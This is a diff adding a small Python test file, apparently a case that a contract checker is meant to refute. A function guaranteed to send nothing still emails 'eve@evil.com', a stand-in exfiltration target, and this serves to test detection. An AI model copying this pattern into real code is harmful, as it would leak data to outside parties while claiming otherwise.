@@ -1,0 +1,9 @@
+# refuted: the module's attribute is the function
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted import effects as fx
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    fx.send_email("eve@evil.com", "x")
